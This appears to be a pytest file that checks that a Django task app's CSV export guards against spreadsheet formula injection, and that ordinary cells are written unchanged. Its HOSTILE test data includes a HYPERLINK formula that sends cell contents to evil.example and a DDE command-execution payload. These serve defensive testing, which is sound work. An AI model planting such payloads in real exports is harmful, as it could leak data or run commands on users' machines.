"""The runs export (taskdeck.export_runs, run on the real worker) writes no cell a spreadsheet
would run as a formula: text starting with `= + - @`, a tab or a carriage return gets a `'` in
front (OWASP's advice against CSV injection); everything else is written unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from django.utils import timezone

from tasks_app import services
from tasks_app.models import Run, RunState
from tests.support.runs import finished, operator
from tests.support.services import WorkerProcess

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def exported_rows(worker: WorkerProcess) -> list[dict[str, str]]:
    """Run the export of failed runs on the worker; the rows of its CSV artifact."""
    run = finished(
        services.job_launch(
            "taskdeck.export_runs", {"states": ["FAILURE"]}, actor=operator()
        ).task_id
    )
    assert run.state == RunState.SUCCESS, run.error
    path = Path(run.artifact.path)
    try:
        text = path.read_bytes().decode()
    finally:
        run.artifact.delete(save=False)
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_cells_that_start_like_a_formula_get_a_quote_in_front(worker: WorkerProcess) -> None:
    for n, (name, text) in enumerate(HOSTILE.items()):
        Run.objects.create(
            task_id=f"csv-{name}",
            job_name="demo.flaky",
            state=RunState.FAILURE,
            queued_at=timezone.now(),
            error=text,
            schedule_name=text,
            actor_label=text,
            attempts=n,
        )

    rows = {row["task_id"]: row for row in exported_rows(worker)}

    assert set(rows) == {f"csv-{name}" for name in HOSTILE}
    for name, text in HOSTILE.items():
        row = rows[f"csv-{name}"]
        for column in ("error", "schedule", "launched_by"):
            assert row[column] == "'" + text, (name, column, row[column])


def test_ordinary_cells_are_written_unchanged(worker: WorkerProcess) -> None:
    Run.objects.create(
        task_id="csv-plain",
        job_name="demo.flaky",
        state=RunState.FAILURE,
        queued_at=timezone.now(),
        error="ValueError: a = b + c - d @ e",  # formula characters, but not first
        schedule_name="nightly",
        actor_label="alice@example.com",
        params={"note": "=not a cell start"},
    )

    [row] = exported_rows(worker)

    assert row["error"] == "ValueError: a = b + c - d @ e"
    assert row["schedule"] == "nightly"
    assert row["launched_by"] == "alice@example.com"
    assert row["params"] == '{"note": "=not a cell start"}'
    assert row["attempts"] == "0"
